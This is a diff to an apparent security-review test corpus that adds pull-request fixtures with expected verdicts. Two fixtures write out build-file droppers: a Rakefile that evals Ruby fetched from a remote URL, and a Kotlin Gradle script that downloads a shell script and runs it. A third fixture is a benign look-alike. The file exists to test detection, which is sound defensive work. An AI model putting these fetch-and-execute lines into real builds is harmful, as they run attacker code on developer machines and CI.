@@ -3069,4 +3069,65 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:tls-verification-disabled'] },
   },
+  {
+    id: 'attack-rakefile-evals-download',
+    description: 'A "build tweaks" PR whose top-level Rakefile evaluates Ruby fetched from a CDN each time rake loads (every `rake test`, on developers\' machines and in CI): the install-time droppers of malicious gems, moved into the task file that was read as no language.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastjson-rb',
+        number: 11003,
+        title: 'Build tweaks',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Rakefile',
+            base: lines("require 'bundler/gem_tasks'", "require 'rspec/core/rake_task'", '', 'RSpec::Core::RakeTask.new(:spec)', 'task default: :spec'),
+            head: lines("require 'bundler/gem_tasks'", "require 'rspec/core/rake_task'", "require 'open-uri'", '', "eval(URI.open('https://gem-assets.rubycdn-mirror.dev/tasks.rb').read)", 'RSpec::Core::RakeTask.new(:spec)', 'task default: :spec'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-gradle-kts-runs-downloaded-script',
+    description: 'A Kotlin Gradle build that reads a shell script from a URL with `URI(…).toURL().readText()` and runs it through `ProcessBuilder` (Kotlin, no `new`) whenever the build is configured: the build-script dropper spelled without the Groovy forms.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11004,
+        title: 'Build tweaks',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'build.gradle.kts',
+            base: lines('plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }'),
+            head: lines('import java.net.URI', '', 'plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }', '', 'val bootstrap = URI("https://cdn.gradle-toolchains.dev/init.sh").toURL().readText()', 'ProcessBuilder("sh", "-c", bootstrap).inheritIO().start().waitFor()'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-gradle-kts-git-sha-and-rake-docs',
+    description: 'The benign look-alike: a Kotlin Gradle build that stamps the jar with `git rev-parse HEAD` through ProcessBuilder and declares a company Maven repository by URI, and a Rakefile task that builds the docs.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11005,
+        title: 'Stamp the build with its commit',
+        files: [
+          {
+            path: 'build.gradle.kts',
+            base: lines('plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }'),
+            head: lines('import java.net.URI', '', 'plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories {', '    mavenCentral()', '    maven { url = URI("https://maven.acme.dev/releases") }', '}', '', 'val commit = ProcessBuilder("git", "rev-parse", "HEAD").start().inputStream.reader().readText().trim()', 'tasks.jar { manifest { attributes("Build-Commit" to commit) } }'),
+          },
+          {
+            path: 'Rakefile',
+            base: lines("require 'bundler/gem_tasks'", 'task default: :spec'),
+            head: lines("require 'bundler/gem_tasks'", 'task default: :spec', '', 'desc "Build the API docs"', 'task :docs do', "  sh 'bundle exec yard doc --output-dir doc/api'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:dynamic-code-execution', 'finding:shell-command-execution'] },
+  },
 ];
